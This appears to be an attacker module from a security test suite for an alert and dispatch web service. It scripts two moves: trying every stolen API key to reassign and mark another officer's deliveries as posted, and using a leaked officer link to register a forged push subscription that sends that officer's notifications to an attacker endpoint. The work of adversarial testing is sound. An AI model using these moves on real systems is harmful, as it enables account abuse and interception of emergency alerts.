"""What is posted by hand: whoever has broken into the public pages, and whoever has found an officer's link."""

import asyncio
import base64
from collections.abc import Awaitable, Callable
from typing import Any

import aiohttp
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from attack.attackers.trade import Attacker, attacker_here, say

SECRET = b"a secret of 16 b"


async def hand_on(attacker: Attacker) -> None:
    """A task for another officer, and then the word that it is posted. By whichever key opens that."""
    alert, delivery = f"/api/v1/alerts/{attacker.knows['alert_id']}", attacker.knows["delivery"]
    asked = {"handed": {"officer": attacker.knows["other"], "deliveries": [delivery]}}
    asked["posted"] = {"deliveries": [delivery]}
    for name, key in attacker.holds.items():
        if not name.endswith("_KEY"):
            continue
        async with aiohttp.ClientSession(
            attacker.knows["broadcast_url"], headers={"Authorization": f"Bearer {key}"}
        ) as http:
            for what, body in asked.items():
                await _ask(attacker, http, f"{alert}/{what}", body)


async def push_out(attacker: Attacker) -> None:
    """A phone of their own for the officer whose link they have, in the place of those that wake that officer."""
    public = ec.generate_private_key(ec.SECP256R1()).public_key()
    point = public.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    keys = {"p256dh": _text(point), "auth": _text(SECRET)}
    subscription = {"endpoint": attacker.knows["strange_endpoint"], "expirationTime": None, "keys": keys}
    async with aiohttp.ClientSession(attacker.knows["public_url"]) as http:
        await _ask(attacker, http, f"/relay/{attacker.knows['link']}/phone", subscription)


async def _ask(attacker: Attacker, http: aiohttp.ClientSession, path: str, body: dict[str, Any]) -> None:
    async with http.post(path, json=body) as answer:
        if answer.status >= 400:
            attacker.refused.append(f"POST {path.rpartition('/')[2]}: {answer.status} {(await answer.text())[:160]}")


def _text(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


MOVES: dict[str, Callable[[Attacker], Awaitable[None]]] = {move.__name__: move for move in (hand_on, push_out)}


async def act(move: str, attacker: Attacker) -> None:
    await MOVES[move](attacker)


if __name__ == "__main__":
    chosen, who = attacker_here()
    asyncio.run(act(chosen, who))
    say(who)
